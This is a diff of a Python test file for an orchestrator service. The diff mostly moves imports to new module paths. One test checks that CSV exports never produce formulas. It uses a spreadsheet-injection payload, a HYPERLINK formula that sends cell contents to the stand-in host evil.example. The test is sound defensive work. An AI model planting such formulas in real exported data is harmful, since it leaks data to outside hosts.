@@ -16,7 +16,7 @@ from fastapi.testclient import TestClient
 from sqlalchemy import event, func, select
 from sqlalchemy.orm import Session
 
-from orchestrator.api.app import create_app
+from orchestrator.app import create_app
 from orchestrator.db.models import Grid, Node, Run, Schedule
 from orchestrator.db.session import session_scope
 from orchestrator.settings import Settings, SettingsError
@@ -233,7 +233,7 @@ def test_worker_paths_must_be_under_the_operator_dirs(
 
 
 def test_csv_cells_are_never_formulas(client: TestClient, database_url: str) -> None:
-    from orchestrator.ingest import ingest
+    from orchestrator.runs.ingest import ingest
 
     name = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
     body = {"name": name, "arms": ["A", "B"], "overrides": TINY}  # arm names are letters, digits, . _ -
@@ -255,7 +255,7 @@ def test_csv_cells_are_never_formulas(client: TestClient, database_url: str) -> 
 
 
 def test_grid_list_and_dashboard_are_paged(database_url: str, storage: Path) -> None:
-    from orchestrator.grids import GridCreate, create_grid
+    from orchestrator.runs.grids import GridCreate, create_grid
 
     with session_scope(database_url) as session:
         for i in range(60):
@@ -281,7 +281,7 @@ def test_short_token_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path)
 
     monkeypatch.setenv("ABLATE_API_TOKEN", "x")
     with pytest.raises(SettingsError, match="ABLATE_API_TOKEN"):
-        load_settings()
+        read_token(load_settings())
     monkeypatch.delenv("ABLATE_API_TOKEN")
     (tmp_path / "api_token").write_text("short\n")
     with pytest.raises(SettingsError, match="shorter than 16"):
